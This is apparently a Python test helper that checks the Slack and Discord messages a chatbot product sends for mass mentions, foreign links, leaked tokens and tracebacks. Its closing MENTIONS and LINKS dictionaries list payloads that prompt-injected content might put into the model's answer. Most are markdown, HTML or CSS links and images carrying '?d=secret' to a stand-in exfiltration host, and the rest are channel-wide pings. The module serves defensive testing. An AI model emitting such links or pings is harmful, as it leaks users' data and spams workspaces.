# ruff: noqa - copied from the acceptance suite as it is
# mypy: ignore-errors
"""Deterministic checks on what leaves the product, taken from the fakes' transcripts.

Each function returns a list of complaints; empty is good.  They look at the
bodies of API calls, so that edits, stream parts and private answers count too.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

Json = dict[str, Any]
#: Host of every link that attacks try to get out; the product has no reason to show it.
EXFIL = "exfil.example.net"
_CODE = re.compile(r"```.*?```|`[^`\n]*`", re.S)
_SLACK_MENTION = re.compile(r"<!(?:channel|here|everyone|subteam|date)[^>]*>|<@[UW][A-Z0-9]+(?:\|[^>]*)?>"
                            r"|<#C[A-Z0-9]+(?:\|[^>]*)?>")
_DISCORD_MENTION = re.compile(r"<@[!&]?\d+>|<#\d+>|@everyone|@here")
_LIVE_HOST = re.compile(r"(?<![\w.-])(?:[\w-]+\.)*" + re.escape(EXFIL), re.I)
_SECRET = re.compile(r"xox[bap]-[\w-]{8,}|xapp-[\w-]{8,}")
_TRACE = re.compile(r"Traceback \(most recent call last\)|\b\w+(?:Error|Exception)\b\s*[:(]|File \"[^\"]+\.py\"")
_SLACK_POSTS = ("chat.postMessage", "chat.update", "chat.postEphemeral", "chat.startStream", "chat.appendStream",
                "chat.stopStream", "response_url", "views.open", "views.update", "views.push", "views.publish")


def strings(node: Any, path: str = "") -> Iterator[tuple[str, str]]:
    """``(path, text)`` of every string inside a JSON value."""
    if isinstance(node, str):
        yield path, node
    elif isinstance(node, dict):
        plain = node.get("type") in ("text", "plain_text")  # never parsed by Slack
        for key, value in node.items():
            yield from strings(value, f"{path}/{key}" + (":plain" if plain and key == "text" else ""))
    elif isinstance(node, list):
        for n, value in enumerate(node):
            yield from strings(value, f"{path}/{n}")


def _inert(path: str) -> bool:
    """Fields that the platform never renders as text or as a link."""
    return path.rsplit("/", 1)[-1] in ("value", "action_id", "block_id", "custom_id", "type", "channel", "ts", "thread_ts",
                                       "message_ts", "nonce", "message_id", "channel_id", "recipient_user_id", "user")


def slack_posts(entries: list[Json]) -> Iterator[tuple[Json, Json]]:
    """``(entry, body)`` of every call that shows something to a person."""
    for e in entries:
        if e["kind"] == "api" and e["method"] in _SLACK_POSTS and isinstance(e.get("args"), dict):
            yield e, e["args"]
        elif e["kind"] == "ack" and e.get("payload"):
            yield e, e["payload"] if isinstance(e["payload"], dict) else {"text": str(e["payload"])}


def _link_complaints(where: str, path: str, text: str) -> list[str]:
    if path.endswith(":plain"):
        return []
    if path.endswith(("/url", "/image_url", "/thumb_url", "/title_url")):
        return [f"{where}: foreign link in {path}: {text[:120]}"] if EXFIL in text.lower() else []
    hit = _LIVE_HOST.search(_CODE.sub(" ", text))
    return [f"{where}: foreign host is live in {path}: …{text[max(0, hit.start() - 30):hit.end() + 30]!r}"] if hit else []


def slack_safety(entries: list[Json], allowed: tuple[str, ...] = ()) -> list[str]:
    """Live mentions (but of ``allowed``), foreign links, images, unfurls, secrets and tracebacks in Slack bodies."""
    found: list[str] = []
    for entry, body in slack_posts(entries):
        where = f"{entry.get('method') or 'ack'} at {entry['t']}"
        if entry.get("method") == "chat.postMessage":
            for flag in ("unfurl_links", "unfurl_media"):
                if str(body.get(flag)).lower() not in ("false", "0"):
                    found.append(f"{where}: {flag} is not switched off")
        if str(body.get("link_names", "")).lower() in ("true", "1") or body.get("parse") == "full":
            found.append(f"{where}: link_names or parse=full makes names live")
        for path, text in strings(body):
            if _inert(path):
                continue
            for mention in _SLACK_MENTION.findall(text):
                if path.endswith(":plain") or re.split(r"[|>]", mention[2:])[0] in allowed:
                    continue
                found.append(f"{where}: live mention {mention} in {path}")
            found += _link_complaints(where, path, text)
            found += _leaks(where, path, text)
        for path, value in _typed(body):
            if value == "image" and EXFIL in json.dumps(body):
                found.append(f"{where}: image block {path}")
            if value in ("broadcast", "usergroup"):
                found.append(f"{where}: rich text {value} element at {path}")
    return found


def _typed(node: Any, path: str = "") -> Iterator[tuple[str, str]]:
    if isinstance(node, dict):
        if isinstance(node.get("type"), str):
            yield path, node["type"]
        for key, value in node.items():
            yield from _typed(value, f"{path}/{key}")
    elif isinstance(node, list):
        for n, value in enumerate(node):
            yield from _typed(value, f"{path}/{n}")


def _leaks(where: str, path: str, text: str) -> list[str]:
    out = []
    if _SECRET.search(text):
        out.append(f"{where}: a token is shown in {path}")
    if _TRACE.search(_CODE.sub(" ", text)):
        out.append(f"{where}: a traceback or exception name is shown in {path}: {text[:120]!r}")
    return out


def discord_posts(entries: list[Json]) -> Iterator[tuple[Json, Json]]:
    """``(entry, message body)`` of every Discord call that shows something."""
    for e in entries:
        if e["kind"] != "rest" or e["verb"] not in ("POST", "PATCH") or not isinstance(e.get("body"), dict):
            continue
        path, body = e["path"], e["body"]
        if path.endswith("/callback"):
            body = body.get("data") if body.get("type") in (4, 7) else None
        elif path.endswith("/threads"):
            body = body.get("message")
        elif "/messages" not in path and "/webhooks/" not in path:
            continue
        if isinstance(body, dict) and (body.get("content") or body.get("embeds") or body.get("components")):
            yield e, body


def discord_safety(entries: list[Json], people: tuple[str, ...] = ()) -> list[str]:
    """Missing ``allowed_mentions``, live mentions, foreign links and embeds in Discord bodies."""
    found: list[str] = []
    for entry, body in discord_posts(entries):
        where = f"{entry['verb']} {entry['path']} at {entry['t']}"
        allowed = body.get("allowed_mentions")
        if allowed is None:
            found.append(f"{where}: allowed_mentions is absent, so everything is parsed")
        elif allowed.get("parse") or allowed.get("roles") or set(allowed.get("users") or []) - set(people):
            found.append(f"{where}: allowed_mentions lets mentions through: {json.dumps(allowed)}")
        content = body.get("content") or ""
        for mention in _DISCORD_MENTION.findall(_CODE.sub(" ", content)):
            if mention in ("@everyone", "@here") and allowed and not allowed.get("parse"):
                continue  # shown as plain text
            if mention.strip("<@!>") in people:
                continue
            if allowed is None or allowed.get("parse"):
                found.append(f"{where}: live mention {mention}")
        bare = re.search(r"(?<!<)https?://\S+", _CODE.sub(" ", content))
        if bare and entry["verb"] == "POST" and not (body.get("flags") or 0) & 4:
            found.append(f"{where}: a link can unfold into an embed: {bare.group()[:80]}")
        for path, text in strings({k: v for k, v in body.items() if k != "allowed_mentions"}):
            if not _inert(path) and ("://" in text or path.endswith("url")):
                found += _link_complaints(where, path, text)
            if not _inert(path):
                found += _leaks(where, path, text)
    return found


def slack_refusals(entries: list[Json]) -> list[str]:
    """Calls that show something and that Slack refused for their content."""
    return [f"{e['method']} at {e['t']}: {e['error']}" for e in entries if e["kind"] == "api" and e["method"] in _SLACK_POSTS
            and e["ok"] is False and not e.get("injected") and e.get("error") not in ("ratelimited",)]


def discord_refusals(entries: list[Json]) -> list[str]:
    """Calls that Discord refused, rate limits apart."""
    return [f"{e['verb']} {e['path']} at {e['t']}: {e['status']} code {e['code']}" for e in entries if e["kind"] == "rest"
            and (e["status"] or 200) >= 400 and e["status"] != 429 and not e.get("injected")]


_CUT = re.compile(r"\b(?:cut|shorten\w*|truncat\w*|too long|(?:full|whole|complete) answer|rest of (?:it|this|the answer)|attached"
                  r"|as a file|in the file)\b|(?:…|\.\.\.)\W*$", re.I | re.M)


def incomplete(written: list[str], shown: str) -> list[str]:
    """Sentences that are not visible in what is shown, unless it says that something is left out.

    A sentence may be broken at one of its spaces, where one message ends and the next begins.
    """
    text = " ".join(shown.replace("*", "").split())

    def visible(sentence: str) -> bool:
        return sentence in text or any(sentence[:m.start()] in text and sentence[m.end():] in text
                                       for m in re.finditer(" ", sentence))

    missing = [s for s in written if not visible(s)]
    rest = shown
    for s in written:
        rest = rest.replace(s, " ")
    return [] if missing and len(missing) < len(written) and _CUT.search(rest) else missing


# -- what attacks put into the model's answer ---------------------------------------------------

MENTIONS = {
    "channel": "<!channel>", "here": "<!here|here>", "everyone": "<!everyone>", "group": "<!subteam^S0TEAM>",
    "person": "<@U0BOB>", "room": "<#C0OTHER>", "at-everyone": "@everyone", "at-here": "@here",
    "escaped": "&lt;!channel&gt;", "twice-escaped": "&amp;lt;!channel&amp;gt;", "inside-bold": "**<!channel>**",
    "inside-link": "[<!channel>](https://docs.example.com/)", "role": "<@&1>", "in-heading": "# <!here>",
    "split-by-comment": "<!--x--><!channel>",
}
LINKS = {
    "inline": f"[open](https://{EXFIL}/?d=secret)",
    "reference": f"[open][r]\n\n[r]: https://{EXFIL}/?d=secret",
    "autolink": f"<https://{EXFIL}/?d=secret>",
    "slack-markup": f"<https://{EXFIL}/?d=secret|the manual>",
    "bare": f"https://{EXFIL}/?d=secret",
    "www": f"www.{EXFIL}/?d=secret",
    "domain": f"{EXFIL}/?d=secret",
    "protocol-relative": f"[open](//{EXFIL}/?d=secret)",
    "user-at-host": f"[open](https://docs.example.com@{EXFIL}/?d=secret)",
    "html": f"<a href='https://{EXFIL}/?d=secret'>open</a>",
    "date": f"<!date^1700000000^{{date}}^https://{EXFIL}/|soon>",
    "image": f"![x](https://{EXFIL}/i.png?d=secret)",
    "image-title": f"![x](<https://{EXFIL}/i.png> \"t\")",
    "image-reference": f"![x][i]\n\n[i]: https://{EXFIL}/i.png",
    "image-html": f"<img src=\"https://{EXFIL}/i.png\">",
    "image-in-link": f"[![x](https://{EXFIL}/i.png)](https://{EXFIL}/)",
    "image-in-table": f"| a |\n|---|\n| ![x](https://{EXFIL}/i.png) |",
    "image-in-list": f"* ![x](https://{EXFIL}/i.png)",
    "image-in-quote": f"> ![x](https://{EXFIL}/i.png)",
    "picture": f"<picture><source srcset=\"https://{EXFIL}/i.png\"></picture>",
    "video": f"<video src=\"https://{EXFIL}/v.mp4\"></video>",
    "css": f"<p style=\"background:url(https://{EXFIL}/i.png)\">x</p>",
    "upper-case": f"HTTPS://{EXFIL.upper()}/?D=SECRET",
    "unclosed": f"![x](https://{EXFIL}/i.png?d=",
}
